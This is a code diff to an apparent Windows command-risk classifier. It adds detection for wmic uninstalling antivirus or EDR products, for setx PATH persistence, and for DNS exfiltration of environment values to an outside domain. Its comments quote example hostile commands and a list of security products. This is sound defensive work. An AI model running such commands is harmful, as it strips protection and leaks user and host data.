@@ -1353,9 +1353,21 @@ def _vssadmin(cmd: Cmd) -> None:
         cmd.add(M, "backup", "changes shadow copies")
 
 
+# Antivirus / EDR product names as they appear in an uninstall filter.
+_AV_PRODUCT = re.compile(
+    r"(?i)sophos|defender|crowdstrike|falcon|symantec|norton|mcafee|trellix|\beset\b|kaspersky"
+    r"|sentinel ?one|carbon ?black|trend ?micro|malwarebytes|cylance|bitdefender|avast|\bavg\b"
+    r"|webroot|f-secure|cortex xdr|traps|endpoint protection|antivirus|anti-virus"
+)
+
+
 def _wmic(cmd: Cmd) -> None:
     text = " ".join(cmd.texts()).lower()
     low = [w.text.lower() for w in cmd.args]
+    if "product" in low and "uninstall" in low and _AV_PRODUCT.search(text):
+        # `wmic product where "name like '%Sophos%'" call uninstall`: the protection goes.
+        cmd.add(C, "disable-security", "wmic uninstalls an antivirus or EDR product")
+        return
     for i in range(len(low) - 2):
         if low[i : i + 3] == ["process", "call", "create"] and i + 3 < len(low):
             # wmic process call create "cmd /c …": the command line is judged as cmd.
@@ -1755,7 +1767,10 @@ def _write_cmdlet(cmd: Cmd) -> None:
             f"setx {cmd.args[0].text} makes every later program load or find attacker code",
         )
         return
-    if cmd.name == "setx" and cmd.args and cmd.args[0].text.lower() in ("path", "pathext"):
+    setx_var = next(
+        (w.text.lower() for w in cmd.args if not re.fullmatch(r"(?i)[/-][a-z]", w.text)), ""
+    )
+    if cmd.name == "setx" and setx_var in ("path", "pathext"):
         cmd.add(C, "persistence", "setx PATH changes the search path of every later session")
         return
     if cmd.name == "register-scheduledtask":
@@ -2083,10 +2098,25 @@ def _invoke_webrequest(cmd: Cmd) -> None:
     HANDLERS["curl"](cmd)
 
 
+# `Resolve-DnsName "$env:USERNAME.$env:COMPUTERNAME.x.example.com"`: environment values put
+# in front of someone's domain reach that domain's name server (DNS exfiltration).
+# (An internal suffix, `$env:COMPUTERNAME.corp.local`, is the machine's own name.)
+_ENV_IN_HOST = re.compile(
+    r"(?i)\$\{?env:\w+\}?[^\s'\"]*\.[\w-]+"
+    r"\.(?!(?:local|lan|internal|intranet|localdomain|home|corp|ad)\b)[a-z]{2,}\b"
+)
+
+
 def _misc_windows_safe(cmd: Cmd) -> None:
     if (
         cmd.name in ("resolve-dnsname", "test-netconnection")
-        and any("$(" in w.text for w in cmd.args)
+        and any(
+            "$(" in w.text
+            or (
+                w.dynamic and _ENV_IN_HOST.search(cmd.scope.source[max(w.start, 0) : max(w.end, 0)])
+            )
+            for w in cmd.args
+        )
     ) or (
         cmd.name in ("nslookup", "ping", "ping6", "tracert", "pathping")
         and any(w.dynamic and w.origin == "command" for w in cmd.args)
